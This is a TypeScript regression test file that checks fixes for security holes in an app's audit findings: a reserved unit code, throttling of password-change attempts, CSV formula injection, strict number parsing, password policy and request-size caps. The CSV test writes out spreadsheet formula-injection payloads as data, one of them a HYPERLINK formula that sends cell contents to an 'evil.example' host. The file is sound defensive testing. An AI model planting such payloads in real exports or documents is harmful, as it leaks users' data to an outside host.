/**
 * The holes an attack on Dukao found (issue 16, items 2 and 4–8), each with the test that failed before its fix.
 * Item 1 (decompression bomb) is upload-bomb.test.ts, item 3 (database least privilege) db-least-privilege.test.ts,
 * item 9 (data-directory lock through a symbolic link) data-dir-lock.test.ts.
 */
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ANONYMOUS_BODY_LIMIT } from '../../server/app';
import { callerFor, sessionUserOf } from '../helpers/callers';
import { withDemo } from '../helpers/demo';
import { buildTestApp, DEMO_PASSWORDS, getWith, loginAs, makeUser, postJson, trpcMutation } from '../helpers/http';
import { createTestDatabase, ON_POSTGRES, type TestDatabase } from '../helpers/test-db';

let db: TestDatabase;
let app: FastifyInstance;
let users: Awaited<ReturnType<typeof withDemo>>;
let adminCookie: string;

/** The error's message and its `row N: …` lines, or 'ok'. */
const messageOf = async (p: Promise<unknown>) => {
  try {
    await p;
    return 'ok';
  } catch (err) {
    const rows = (err as { cause?: { details?: { rowErrors?: string[] } } }).cause?.details?.rowErrors ?? [];
    return [(err as Error).message, ...rows].join('\n');
  }
};
const send = (kind: string, file: string) =>
  postJson(
    app,
    `/api/import/${kind}`,
    { fileName: `${kind}.csv`, contentBase64: Buffer.from(file).toString('base64') },
    { cookie: adminCookie },
  );

beforeAll(async () => {
  db = await createTestDatabase();
  users = await withDemo(db);
  app = await buildTestApp(db);
  adminCookie = (await loginAs(app, 'admin', DEMO_PASSWORDS.admin)).cookie!;
}, 240_000);

afterAll(async () => {
  await app?.close();
  await db?.dispose();
});

describe(`issue 16 holes on ${ON_POSTGRES ? 'PostgreSQL' : 'PGlite'}`, () => {
  it('2. a unit coded `city` can neither be created nor take over the city report texts', async () => {
    const admin = callerFor(db, users.admin);
    for (const code of ['city', 'CITY', 'all'])
      expect(await messageOf(admin.admin.saveUnit({ code, name: '冒名单位', type: 'street', parent: null }))).toMatch(
        /is reserved/,
      );
    // A unit so coded from before the rule (written straight to the database) and its operator:
    const unit = await db.prisma.unit.create({
      data: { code: 'city', name: '冒名单位', type: 'street', group: 'grassroots' },
    });
    await db.prisma.user.create({
      data: { username: 'city-op', displayName: 'x', role: 'unit', unitId: unit.id, passwordHash: 'x' },
    });
    const op = callerFor(db, await sessionUserOf(db, 'city-op'));
    const cityBefore = await callerFor(db, users.leader).reports.inputs({ year: 2011 });
    await op.reports.saveInputs({ year: 2011, texts: { problems: '被篡改的全市问题' } });
    const cityAfter = await callerFor(db, users.leader).reports.inputs({ year: 2011 });
    expect(cityAfter.texts).toEqual(cityBefore.texts);
    const report = await callerFor(db, users.leader).reports.annual({ year: 2011 });
    expect(report.html).not.toContain('被篡改的全市问题');
    expect((await op.reports.inputs({ year: 2011 })).texts.problems).toBe('被篡改的全市问题');
  });

  it('4. wrong current passwords in a password change are throttled: 429 after 5, even for the right one', async () => {
    const u = await makeUser(db, { username: 'guessed', password: 'Right-Pass-2026' });
    const { cookie } = await loginAs(app, u.username, u.password);
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++)
      statuses.push(
        (await trpcMutation(app, 'auth.changePassword', { current: `wrong-${i}`, next: 'New-Pass-2026x' }, cookie))
          .status,
      );
    expect(statuses.slice(0, 5)).toEqual([400, 400, 400, 400, 400]);
    expect(new Set(statuses.slice(5))).toEqual(new Set([429]));
    const right = await trpcMutation(
      app,
      'auth.changePassword',
      { current: u.password, next: 'New-Pass-2026x' },
      cookie,
    );
    expect(right.status).toBe(429);
    expect(right.body.error?.message).toMatch(/Too many wrong current passwords/);
  });

  it('5. CSV exports neutralise cells that a spreadsheet would run as a formula (OWASP)', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+SUM(1,2)', '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1'];
    const codes = ['T01', 'T02', 'T03', 'T04', 'T05', 'D01'];
    for (const [i, name] of evil.entries()) await db.prisma.unit.update({ where: { code: codes[i]! }, data: { name } });
    for (const path of ['/api/export/scores?period=2011Q4&format=csv', '/api/export/scores?period=2011&format=csv']) {
      const res = await getWith(app, path, adminCookie);
      expect(res.statusCode).toBe(200);
      const rows = parse(res.body, { columns: true }) as Record<string, string>[];
      for (const [i, name] of evil.entries()) {
        const row = rows.find((r) => r.unit === codes[i]);
        expect(row?.name).toBe(`'${name}`);
      }
      // Numbers stay numbers.
      expect(rows.every((r) => /^\d+(\.\d+)?$/.test(r.score ?? ''))).toBe(true);
    }
  });

  it('6. one number parser: full-width digits and thousands separators accepted, decimals refused, one message', async () => {
    expect((await send('units', 'code,name,type,parent\nH16,数字街道,street,\n')).statusCode).toBe(200);
    const ok = await send(
      'values',
      'unit,period,indicator,value\nH16,2011Q4,pub.news,"1,234"\nH16,2011Q4,pub.electronic,１２\nH16,2011Q4,pub.finance,"１，０００"\n',
    );
    expect(ok.statusCode, ok.body).toBe(200);
    const stored = await db.prisma.value.findMany({
      where: { unit: { code: 'H16' }, periodCode: '2011Q4' },
      select: { indicatorCode: true, value: true },
      orderBy: { indicatorCode: 'asc' },
    });
    expect(stored.map((v) => [v.indicatorCode, Number(v.value)])).toEqual([
      ['pub.electronic', 12],
      ['pub.finance', 1000],
      ['pub.news', 1234],
    ]);
    const bad = await send(
      'values',
      'unit,period,indicator,value\nH16,2011Q4,pub.news,12.0\nH16,2011Q4,pub.electronic,1.5\nH16,2011Q4,pub.finance,"12,34"\n',
    );
    expect(bad.statusCode).toBe(400);
    expect(bad.json().details.rowErrors).toEqual([
      'row 2: H16 2011Q4: pub.news must be a whole number, got "12.0"',
      'row 3: H16 2011Q4: pub.electronic must be a whole number, got "1.5"',
      'row 4: H16 2011Q4: pub.finance must be a whole number, got "12,34"',
    ]);
    const findings = await send(
      'findings',
      'unit,period,severity,deduction,description,deadline,rectified_at\nH16,2011Q4,minor,１．５,栏目更新不及时,,\nH16,2011Q4,minor,1.555,栏目更新不及时,,\n',
    );
    expect(findings.json().details.rowErrors).toEqual([
      'row 3: H16 2011Q4: deduction "1.555" must be a number from 0 to 100 with at most 2 decimals',
    ]);
  });

  it('7. the password policy: 123456, six spaces, the username and common passwords are refused', async () => {
    const admin = callerFor(db, users.security);
    const add = (username: string, password: string) =>
      messageOf(admin.admin.createUser({ username, role: 'inspector', password }));
    expect(await add('weak1', '123456')).toMatch(/at least 8/);
    expect(await add('weak2', '      ')).toMatch(/at least 8/);
    expect(await add('weak3', '        ')).toMatch(/only spaces|kinds of character/);
    expect(await add('weak4', 'abcdefgh')).toMatch(/1 of the 4 kinds/);
    expect(await add('zhangsan', 'Zhangsan2026')).toMatch(/username/);
    expect(await add('weak5', 'P@ssw0rd')).toMatch(/commonly used/);
    expect(await add('strong', 'Kao-Qin-2026')).toBe('ok');
    expect(await db.prisma.user.count({ where: { username: { startsWith: 'weak' } } })).toBe(0);
    // The same rule for a reset and for a change of one's own password.
    expect(await messageOf(admin.admin.updateUser({ username: 'strong', password: 'short' }))).toMatch(/at least 8/);
    const self = callerFor(db, await sessionUserOf(db, 'strong'));
    expect(await messageOf(self.auth.changePassword({ current: 'Kao-Qin-2026', next: 'aaaaaaaaaa' }))).toMatch(
      /kinds of character/,
    );
  });

  it('8. bodies from anyone not signed in are capped before they are read', async () => {
    const big = 'x'.repeat(ANONYMOUS_BODY_LIMIT + 1);
    const login = await postJson(app, '/auth/login', { username: 'admin', password: big });
    expect(login.statusCode).toBe(413);
    const trpc = await postJson(app, '/trpc/auth.changePassword', { current: big, next: big });
    expect(trpc.statusCode).toBe(413);
    expect(
      (await postJson(app, '/api/import/values', { fileName: 'a.csv', contentBase64: 'A'.repeat(1 << 20) })).statusCode,
    ).toBe(413);
    // A normal sign-in still works, and a signed-in user's larger call reaches its procedure.
    expect((await loginAs(app, 'leader', DEMO_PASSWORDS.leader)).res.statusCode).toBe(200);
    const signedIn = await postJson(
      app,
      '/trpc/reports.saveInputs',
      { year: 2011, texts: { problems: 'y'.repeat(19_000) } },
      { cookie: adminCookie },
    );
    expect(signedIn.statusCode).toBe(200);
  });
});
